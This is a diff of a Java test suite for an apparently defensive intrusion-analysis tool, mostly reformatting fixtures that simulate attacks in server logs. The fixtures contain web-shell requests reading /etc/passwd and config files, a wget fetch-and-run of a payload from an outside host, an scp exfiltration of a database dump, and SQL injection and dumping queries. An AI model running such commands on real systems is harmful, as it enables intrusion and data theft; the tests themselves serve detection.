@@ -56,14 +56,24 @@ final class IntrusionStoriesTest {
     String agent = "python-requests/2.31.0";
     for (int i = 0; i < 40; i++) {
       web.request(
-          TextSite.at("7 22:10:0" + i % 10), OUTSIDE, "GET /old" + i + "/setup.php", 404, 153, agent);
+          TextSite.at("7 22:10:0" + i % 10),
+          OUTSIDE,
+          "GET /old" + i + "/setup.php",
+          404,
+          153,
+          agent);
     }
     web.request(TextSite.at("7 22:31:05"), OUTSIDE, "POST /account/avatar.php", 200, 311, agent);
     String shell = "GET /uploads/me.php?c=";
     web.request(TextSite.at("7 22:31:40"), OUTSIDE, shell + "id", 200, 54, agent);
     web.request(TextSite.at("7 22:32:02"), OUTSIDE, shell + "uname%20-a", 200, 140, agent);
     web.request(
-        TextSite.at("7 22:33:10"), OUTSIDE, shell + "cat%20/var/www/shop/config.php", 200, 412, agent);
+        TextSite.at("7 22:33:10"),
+        OUTSIDE,
+        shell + "cat%20/var/www/shop/config.php",
+        200,
+        412,
+        agent);
     web.request(
         TextSite.at("7 22:36:00"),
         OUTSIDE,
@@ -72,7 +82,10 @@ final class IntrusionStoriesTest {
         0,
         agent);
     db.mysql(
-        TextSite.at("7 22:36:00"), "shop", "10.1.0.10", "shop",
+        TextSite.at("7 22:36:00"),
+        "shop",
+        "10.1.0.10",
+        "shop",
         "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`");
     Incident incident = site.analyze(folder);
     assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
@@ -110,15 +123,22 @@ final class IntrusionStoriesTest {
     TextSite site = Ordinary.site(style, 9);
     TextHost db = site.host("db01", "10.1.0.20");
     db.mysql(
-        TextSite.at("8 02:10:00"), "shop", OUTSIDE, "shop",
-        "select @@version_comment limit 1", "SHOW DATABASES", "SHOW TABLES",
-        "SELECT * FROM customers", "SELECT * FROM payments");
+        TextSite.at("8 02:10:00"),
+        "shop",
+        OUTSIDE,
+        "shop",
+        "select @@version_comment limit 1",
+        "SHOW DATABASES",
+        "SHOW TABLES",
+        "SELECT * FROM customers",
+        "SELECT * FROM payments");
     Incident incident = site.analyze(folder);
     assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
     assertThat(addresses(incident)).containsExactly(OUTSIDE);
     assertThat(accounts(incident)).containsExactly("shop@db01 stolen");
     assertThat(tables(incident)).containsExactly("shop.customers", "shop.payments");
-    assertThat(incident.dwell().firstAccess()).satisfies(t -> assertThat(t.instant()).isEqualTo("2025-03-08T02:10:00Z"));
+    assertThat(incident.dwell().firstAccess())
+        .satisfies(t -> assertThat(t.instant()).isEqualTo("2025-03-08T02:10:00Z"));
   }
 
   @ParameterizedTest
@@ -127,7 +147,10 @@ final class IntrusionStoriesTest {
     TextSite site = Ordinary.site(style, 9);
     TextHost db = site.host("db01", "10.1.0.20");
     db.postgres(
-        TextSite.at("8 02:10:00"), "crm", OUTSIDE, "crm",
+        TextSite.at("8 02:10:00"),
+        "crm",
+        OUTSIDE,
+        "crm",
         "SELECT version();",
         "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
         "COPY public.contacts (id, name, mail) TO stdout;",
@@ -151,7 +174,10 @@ final class IntrusionStoriesTest {
       db.login(day + " 09:20:00", 30, "dora", "198.51.100.24", Ordinary.DORA)
           .types("mysql crm -e \"SELECT name FROM contacts WHERE id = " + day + '"');
       db.mysql(
-          TextSite.at(day + " 09:20:46"), "dora", "localhost", "crm",
+          TextSite.at(day + " 09:20:46"),
+          "dora",
+          "localhost",
+          "crm",
           "SELECT name FROM contacts WHERE id = " + day);
     }
     db.login("10 20:40:00", 30, "dora", "198.51.100.24", Ordinary.DORA)
@@ -160,16 +186,23 @@ final class IntrusionStoriesTest {
         .types("scp /tmp/c.sql.gz dora@203.0.113.88:")
         .types("rm /tmp/c.sql.gz");
     db.mysql(
-        TextSite.at("10 20:40:46"), "dora", "localhost", "crm",
+        TextSite.at("10 20:40:46"),
+        "dora",
+        "localhost",
+        "crm",
         "SHOW TABLES",
         "SELECT /*!40001 SQL_NO_CACHE */ * FROM `contacts`",
         "SELECT /*!40001 SQL_NO_CACHE */ * FROM `invoices`");
     Incident incident = site.analyze(folder);
     assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
     assertThat(incident.origin()).isEqualTo(Origin.INTERNAL);
-    assertThat(accounts(incident)).contains("dora@db01 insider").allMatch(a -> a.startsWith("dora@"));
+    assertThat(accounts(incident))
+        .contains("dora@db01 insider")
+        .allMatch(a -> a.startsWith("dora@"));
     assertThat(tables(incident)).containsExactly("crm.contacts", "crm.invoices");
-    assertThat(incident.exfiltration()).extracting(Incident.Exfiltration::to).contains("203.0.113.88");
+    assertThat(incident.exfiltration())
+        .extracting(Incident.Exfiltration::to)
+        .contains("203.0.113.88");
     assertThat(incident.dwell().firstAccess().instant()).isEqualTo("2025-03-10T20:40:00Z");
   }
 
@@ -205,15 +238,23 @@ final class IntrusionStoriesTest {
       db.refuse(
           TextSite.at("5 18:" + (10 + i % 45) + ":0" + i % 10), names[i % 5], OUTSIDE, i % 5 != 4);
     }
-    db.login("5 18:59:00", 12, "train", OUTSIDE, null).types("id").types("cat /etc/passwd")
-        .types("wget -q http://" + OUTSIDE + "/x -O /tmp/x").types("chmod +x /tmp/x")
+    db.login("5 18:59:00", 12, "train", OUTSIDE, null)
+        .types("id")
+        .types("cat /etc/passwd")
+        .types("wget -q http://" + OUTSIDE + "/x -O /tmp/x")
+        .types("chmod +x /tmp/x")
         .types("nohup /tmp/x &");
     String other = "192.0.2.77";
-    web.request(TextSite.at("8 03:10:00"), other, "POST /account/avatar.php", 200, 311, "curl/8.5.0");
+    web.request(
+        TextSite.at("8 03:10:00"), other, "POST /account/avatar.php", 200, 311, "curl/8.5.0");
     web.request(
         TextSite.at("8 03:11:00"), other, "GET /uploads/a.php?x=uname%20-a", 200, 60, "curl/8.5.0");
     web.request(
-        TextSite.at("8 03:12:00"), other, "GET /uploads/a.php?x=cat%20/etc/passwd", 200, 1760,
+        TextSite.at("8 03:12:00"),
+        other,
+        "GET /uploads/a.php?x=cat%20/etc/passwd",
+        200,
+        1760,
         "curl/8.5.0");
     Incident incident = site.analyze(folder);
     assertThat(incident.actors()).hasSize(2);
@@ -227,7 +268,10 @@ final class IntrusionStoriesTest {
     TextHost web = site.host("web01", "10.1.0.10");
     for (int i = 0; i < 90; i++) {
       web.refuse(
-          TextSite.at(3 + i / 9 + " " + (10 + i % 9) + ":13:05"), "backup", "192.0." + i + ".14", false);
+          TextSite.at(3 + i / 9 + " " + (10 + i % 9) + ":13:05"),
+          "backup",
+          "192.0." + i + ".14",
+          false);
     }
     web.login("13 11:20:00", 15, "backup", "192.0.120.14", null)
         .types("id")
@@ -242,15 +286,15 @@ final class IntrusionStoriesTest {
 
   @ParameterizedTest
   @EnumSource
-  void sprayedThenBackByAKeyWeeksLater(Style style)
-      throws IOException, NoSuchAlgorithmException {
+  void sprayedThenBackByAKeyWeeksLater(Style style) throws IOException, NoSuchAlgorithmException {
     TextSite site = Ordinary.site(style, 30);
     TextHost web = site.host("web01", "10.1.0.10");
     for (int i = 0; i < 30; i++) {
       web.refuse(TextSite.at("6 20:" + (10 + i) + ":05"), "m" + i, OUTSIDE, true);
     }
-    byte[] blob = "\0\0\0\13ssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef"
-        .getBytes(StandardCharsets.ISO_8859_1);
+    byte[] blob =
+        "\0\0\0\13ssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef"
+            .getBytes(StandardCharsets.ISO_8859_1);
     String text = Base64.getEncoder().encodeToString(blob);
     String print =
         Base64.getEncoder()
@@ -287,7 +331,10 @@ final class IntrusionStoriesTest {
       web.request(
           TextSite.at(time), OUTSIDE, "GET /item.php?id=" + value, 200, 4000 + i * 3000, agent);
       db.mysql(
-          TextSite.at(time), "shop", "10.1.0.10", "shop",
+          TextSite.at(time),
+          "shop",
+          "10.1.0.10",
+          "shop",
           "SELECT id, title, price FROM items WHERE id = '" + injected[i] + "'");
     }
     Incident incident = site.analyze(folder);
